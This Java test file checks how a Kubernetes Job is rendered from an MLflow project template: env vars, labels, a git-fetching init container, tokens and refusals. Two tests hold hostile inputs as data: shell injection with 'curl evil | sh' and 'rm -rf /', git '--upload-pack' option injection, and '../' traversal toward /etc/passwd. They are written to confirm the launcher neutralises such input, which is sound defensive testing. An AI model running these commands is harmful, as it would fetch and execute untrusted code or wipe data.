package io.quarkflow.launcher.kubernetes;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.client.utils.KubernetesSerialization;
import io.quarkflow.events.ProjectRunRequest;
import io.quarkflow.launcher.domain.LaunchRefused;
import io.quarkflow.mlproject.ProjectException;
import io.quarkflow.run.tokens.RunTokens;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Rendering a Job from MLflow's example template: what is replaced, what is added, what stays as the user wrote it. */
class JobFactoryTest {

    private static final KubernetesSerialization YAML = new KubernetesSerialization();
    private static final String RUN_ID = "0123456789abcdef0123456789abcdef";
    private static final String COMMIT = "4b825dc642cb6eb9a060e54bf8d69288fbee4904";
    private static final JobFactory FACTORY = new JobFactory(new JobFactory.Settings("http://gateway.quarkflow",
            "python:3.12-slim", "alpine/git:2.47.2", Optional.empty(), Optional.of("plain-token"), Optional.empty(),
            name -> name.equals("FROM_LAUNCHER") ? "launcher value" : null));

    @Test
    void replacesWhatMlflowReplacesAndKeepsTheRest() throws IOException {
        Job template = template();
        Job job = FACTORY.render(template, request("python train.py --alpha 0.5", docker("repo/trainer:1"), Map.of()),
                "mlflow");

        assertEquals("mlflow-run-" + RUN_ID, job.getMetadata().getName());
        assertEquals("mlflow", job.getMetadata().getNamespace());
        Container main = job.getSpec().getTemplate().getSpec().getContainers().get(0);
        assertEquals(1, job.getSpec().getTemplate().getSpec().getContainers().size());
        assertEquals("my-project-", main.getName().substring(0, 11), "the project name, made a DNS label");
        assertEquals("repo/trainer:1", main.getImage());
        assertEquals(List.of("/bin/sh", "-c", "python train.py --alpha 0.5"), main.getCommand());

        // Untouched: everything else the template says.
        assertEquals(100, job.getSpec().getTtlSecondsAfterFinished());
        assertEquals(0, job.getSpec().getBackoffLimit());
        assertEquals("Never", job.getSpec().getTemplate().getSpec().getRestartPolicy());
        assertEquals(new Quantity("512Mi"), main.getResources().getLimits().get("memory"));
        assertEquals(new Quantity("256Mi"), main.getResources().getRequests().get("memory"));
        assertEquals("{replaced with MLflow Project name}", template.getMetadata().getName(),
                "the template itself is not changed");
    }

    @Test
    void addsMlflowsVariablesTheRequestsAndTheToken() throws IOException {
        Job job = FACTORY.render(template(), request("python train.py", null, Map.of()), "mlflow");

        Map<String, String> env = env(job.getSpec().getTemplate().getSpec().getContainers().get(0));
        assertEquals(RUN_ID, env.get("MLFLOW_RUN_ID"));
        assertEquals("http://gateway.quarkflow", env.get("MLFLOW_TRACKING_URI"));
        assertEquals("7", env.get("MLFLOW_EXPERIMENT_ID"));
        assertEquals("plain-token", env.get("MLFLOW_TRACKING_TOKEN"));
        assertEquals("yes", env.get("FROM_REQUEST"));
        assertEquals("python:3.12-slim", job.getSpec().getTemplate().getSpec().getContainers().get(0).getImage(),
                "the default image without a docker_env");
    }

    @Test
    void linksJobAndRunWithLabelsAndAnnotations() throws IOException {
        Job job = FACTORY.render(template(), request("true", null, Map.of()), "mlflow");

        Map<String, String> labels = job.getMetadata().getLabels();
        assertEquals("quarkflow", labels.get("app.kubernetes.io/managed-by"));
        assertEquals(RUN_ID, labels.get("quarkflow.io/run-id"));
        assertEquals("7", labels.get("quarkflow.io/experiment-id"));
        assertEquals(labels, job.getSpec().getTemplate().getMetadata().getLabels(), "the pods carry them too");
        Map<String, String> annotations = job.getMetadata().getAnnotations();
        assertEquals(RUN_ID, annotations.get("quarkflow.io/run-id"));
        assertEquals("My Project", annotations.get("quarkflow.io/project-name"));
        assertEquals("train", annotations.get("quarkflow.io/entry-point"));
        assertEquals("https://git.example/team/repo.git#models/lr@" + COMMIT, annotations.get("quarkflow.io/source"));
    }

    @Test
    void anInitContainerFetchesTheCommitIntoTheWorkingDirectory() throws IOException {
        Job job = FACTORY.render(template(), request("true", null, Map.of()), "mlflow");

        var pod = job.getSpec().getTemplate().getSpec();
        Container init = pod.getInitContainers().get(0);
        assertEquals("alpine/git:2.47.2", init.getImage());
        assertEquals(List.of("/bin/sh", "-c", JobFactory.FETCH_SCRIPT), init.getCommand());
        Map<String, String> env = env(init);
        assertEquals("git", env.get("QUARKFLOW_SOURCE_KIND"));
        assertEquals("https://git.example/team/repo.git", env.get("QUARKFLOW_GIT_URI"));
        assertEquals(COMMIT, env.get("QUARKFLOW_GIT_COMMIT"));
        assertTrue(JobFactory.FETCH_SCRIPT.contains("git fetch -q --depth 1 origin \"$QUARKFLOW_GIT_COMMIT\""));
        assertTrue(JobFactory.FETCH_SCRIPT.contains("git checkout -q FETCH_HEAD"));

        Container main = pod.getContainers().get(0);
        assertEquals("/quarkflow/workspace/models/lr", main.getWorkingDir(), "the workspace plus the subdirectory");
        assertEquals("/quarkflow/workspace", main.getVolumeMounts().get(0).getMountPath());
        assertEquals(init.getVolumeMounts().get(0).getName(), main.getVolumeMounts().get(0).getName());
        assertTrue(pod.getVolumes().stream().anyMatch(volume -> volume.getName().equals("quarkflow-workspace")
                && volume.getEmptyDir() != null));
    }

    @Test
    void anArchiveIsDownloadedThroughTheGateway() throws IOException {
        ProjectRunRequest request = withSource(request("true", null, Map.of()),
                new ProjectRunRequest.Source("archive", "mlflow-artifacts:/projects/a%20b/project.tar.gz", null, ""));
        Job job = FACTORY.render(template(), request, "mlflow");

        Map<String, String> env = env(job.getSpec().getTemplate().getSpec().getInitContainers().get(0));
        assertEquals("http://gateway.quarkflow/api/2.0/mlflow-artifacts/artifacts/projects/a%20b/project.tar.gz",
                env.get("QUARKFLOW_ARCHIVE_URL"));
        assertEquals("tar.gz", env.get("QUARKFLOW_ARCHIVE_FORMAT"));
        assertEquals("plain-token", env.get("MLFLOW_TRACKING_TOKEN"));
    }

    @Test
    void hostileValuesStayOneArgumentAndNeverEnterTheScript() throws IOException {
        String command = "python train.py --name '$(id)' \"x\"; echo `whoami`\nrm -rf / # $HOME";
        String uri = "https://git.example/repo.git\"; curl evil | sh; \"$(id)";
        ProjectRunRequest request = withSource(request(command, null, Map.of()),
                new ProjectRunRequest.Source("git", uri, COMMIT, ""));
        Job job = FACTORY.render(template(), request, "mlflow");

        var pod = job.getSpec().getTemplate().getSpec();
        assertEquals(List.of("/bin/sh", "-c", command), pod.getContainers().get(0).getCommand());
        Container init = pod.getInitContainers().get(0);
        assertEquals(List.of("/bin/sh", "-c", JobFactory.FETCH_SCRIPT), init.getCommand(), "the script is constant");
        assertFalse(JobFactory.FETCH_SCRIPT.contains("id)"));
        assertEquals(uri, env(init).get("QUARKFLOW_GIT_URI"), "the URI travels as a variable only");
        assertTrue(init.getArgs() == null || init.getArgs().isEmpty());
    }

    @Test
    void valuesThatWouldBeReadAsOptionsOrPathsAreRefused() throws IOException {
        Job template = template();
        assertThrows(LaunchRefused.class, () -> FACTORY.render(template, withSource(request("true", null, Map.of()),
                new ProjectRunRequest.Source("git", "https://git.example/r.git", "--upload-pack=touch /x", "")),
                "mlflow"));
        assertThrows(LaunchRefused.class, () -> FACTORY.render(template, withSource(request("true", null, Map.of()),
                new ProjectRunRequest.Source("git", "--upload-pack=evil", COMMIT, "")), "mlflow"));
        assertThrows(LaunchRefused.class, () -> FACTORY.render(template, withSource(request("true", null, Map.of()),
                new ProjectRunRequest.Source("git", "https://git.example/r.git", COMMIT, "../..")), "mlflow"));
        assertThrows(LaunchRefused.class, () -> FACTORY.render(template, withSource(request("true", null, Map.of()),
                new ProjectRunRequest.Source("local", "/home/me/project", null, "")), "mlflow"));
        // The archive's rules are the mlproject library's: its refusal fails the run as a LaunchRefused does.
        assertThrows(ProjectException.class, () -> FACTORY.render(template, withSource(request("true", null,
                Map.of()), new ProjectRunRequest.Source("archive", "mlflow-artifacts:/a/../../etc/passwd.zip", null,
                "")), "mlflow"));
    }

    @Test
    void dockerEnvVariablesVolumesAndPerRunResources() throws IOException {
        Map<String, String> variables = new LinkedHashMap<>();
        variables.put("GIVEN", "value");
        variables.put("FROM_LAUNCHER", null);
        ProjectRunRequest.Environment docker = new ProjectRunRequest.Environment("docker", "repo/img:2",
                List.of("/data/sets:/data:ro", "/scratch:/scratch"), variables, null);
        Map<String, Object> config = Map.of("resources", Map.of("limits", Map.of("cpu", "2", "memory", "1Gi"),
                "requests", Map.of("cpu", "500m")));
        Job job = FACTORY.render(template(), request("true", docker, config), "mlflow");

        var pod = job.getSpec().getTemplate().getSpec();
        Container main = pod.getContainers().get(0);
        Map<String, String> env = env(main);
        assertEquals("value", env.get("GIVEN"));
        assertEquals("launcher value", env.get("FROM_LAUNCHER"), "a null value is copied from the launcher");
        assertTrue(main.getVolumeMounts().stream().anyMatch(mount -> mount.getMountPath().equals("/data")
                && Boolean.TRUE.equals(mount.getReadOnly())));
        assertTrue(pod.getVolumes().stream().anyMatch(volume -> volume.getHostPath() != null
                && volume.getHostPath().getPath().equals("/data/sets")));
        assertEquals(new Quantity("1Gi"), main.getResources().getLimits().get("memory"));
        assertEquals(new Quantity("2"), main.getResources().getLimits().get("cpu"));
        assertEquals(new Quantity("500m"), main.getResources().getRequests().get("cpu"));
        assertEquals(new Quantity("256Mi"), main.getResources().getRequests().get("memory"), "the template's stays");

        Map<String, String> missing = new LinkedHashMap<>();
        missing.put("NOT_ON_THE_LAUNCHER", null);
        assertThrows(LaunchRefused.class, () -> FACTORY.render(template(), request("true",
                new ProjectRunRequest.Environment("docker", "img", List.of(), missing, null), Map.of()), "mlflow"));
        assertThrows(LaunchRefused.class, () -> FACTORY.render(template(), request("true", null,
                Map.of("resources", Map.of("limits", Map.of("cpu", "lots")))), "mlflow"));
    }

    @Test
    void aSecretReferenceIsPreferredForTheToken() throws IOException {
        JobFactory withSecret = new JobFactory(new JobFactory.Settings("http://gateway", "img", "init",
                Optional.empty(), Optional.of("plain-token"), Optional.of(Map.entry("launcher-token", "token")), name -> null));
        Job job = withSecret.render(template(), request("true", null, Map.of()), "mlflow");

        EnvVar token = job.getSpec().getTemplate().getSpec().getContainers().get(0).getEnv().stream()
                .filter(variable -> variable.getName().equals("MLFLOW_TRACKING_TOKEN")).findFirst().orElseThrow();
        assertNull(token.getValue());
        assertEquals("launcher-token", token.getValueFrom().getSecretKeyRef().getName());
        assertEquals("token", token.getValueFrom().getSecretKeyRef().getKey());
    }

    @Test
    void withARunTokenKeyEachJobCarriesItsRunsOwnToken() throws IOException {
        RunTokens tokens = RunTokens.fromBase64Key(Base64.getEncoder().encodeToString(new byte[32]), "key");
        JobFactory minting = new JobFactory(new JobFactory.Settings("http://gateway", "img", "init",
                Optional.of(tokens), Optional.of("plain-token"), Optional.of(Map.entry("launcher-token", "token")),
                name -> null));
        ProjectRunRequest archive = withSource(request("true", null, Map.of()),
                new ProjectRunRequest.Source("archive", "mlflow-artifacts:/projects/p.zip", null, ""));
        Job job = minting.render(template(), archive, "mlflow");

        var pod = job.getSpec().getTemplate().getSpec();
        for (Container container : List.of(pod.getContainers().get(0), pod.getInitContainers().get(0))) {
            EnvVar token = container.getEnv().stream()
                    .filter(variable -> variable.getName().equals("MLFLOW_TRACKING_TOKEN")).findFirst().orElseThrow();
            assertNull(token.getValueFrom(), "a value, not the shared Secret");
            assertEquals(Optional.of(RUN_ID), tokens.verify(token.getValue()), container.getName());
        }
        ProjectRunRequest other = new ProjectRunRequest("fedcba9876543210fedcba9876543210", "7", "My Project",
                archive.source(), "main", "true", Map.of(), null, "kubernetes", Map.of(), "alice");
        String otherToken = env(minting.render(template(), other, "mlflow").getSpec().getTemplate().getSpec()
                .getContainers().get(0)).get("MLFLOW_TRACKING_TOKEN");
        assertEquals(Optional.of("fedcba9876543210fedcba9876543210"), tokens.verify(otherToken), "one token per run");
    }

    @Test
    void theNamespaceComesFromTheRequestThenTheTemplateThenTheDefault() throws IOException {
        Job template = template();
        assertEquals("team-a", JobFactory.namespace(request("true", null, Map.of("namespace", "team-a")), template,
                "default"));
        assertEquals("mlflow", JobFactory.namespace(request("true", null, Map.of()), template, "default"));
        template.getMetadata().setNamespace(null);
        assertEquals("default", JobFactory.namespace(request("true", null, Map.of()), template, "default"));
    }

    @Test
    void aTemplateWithoutContainersIsRefused() {
        Job empty = YAML.unmarshal("apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: x\n", Job.class);
        assertThrows(LaunchRefused.class, () -> FACTORY.render(empty, request("true", null, Map.of()), "mlflow"));
    }

    static Job template() throws IOException {
        try (InputStream in = JobFactoryTest.class.getResourceAsStream("/mlflow-kubernetes-job-template.yaml")) {
            return YAML.unmarshal(new String(in.readAllBytes(), StandardCharsets.UTF_8), Job.class);
        }
    }

    private static ProjectRunRequest request(String command, ProjectRunRequest.Environment environment,
                                             Map<String, Object> backendConfig) {
        return new ProjectRunRequest(RUN_ID, "7", "My Project",
                new ProjectRunRequest.Source("git", "https://git.example/team/repo.git", COMMIT, "models/lr"),
                "train", command, Map.of("FROM_REQUEST", "yes"), environment, "kubernetes", backendConfig, "alice");
    }

    private static ProjectRunRequest.Environment docker(String image) {
        return new ProjectRunRequest.Environment("docker", image, List.of(), Map.of(), null);
    }

    private static ProjectRunRequest withSource(ProjectRunRequest r, ProjectRunRequest.Source source) {
        return new ProjectRunRequest(r.runId(), r.experimentId(), r.projectName(), source, r.entryPoint(),
                r.command(), r.env(), r.environment(), r.backend(), r.backendConfig(), r.user());
    }

    private static Map<String, String> env(Container container) {
        Map<String, String> env = new LinkedHashMap<>();
        container.getEnv().forEach(variable -> env.put(variable.getName(), variable.getValue()));
        return env;
    }
}
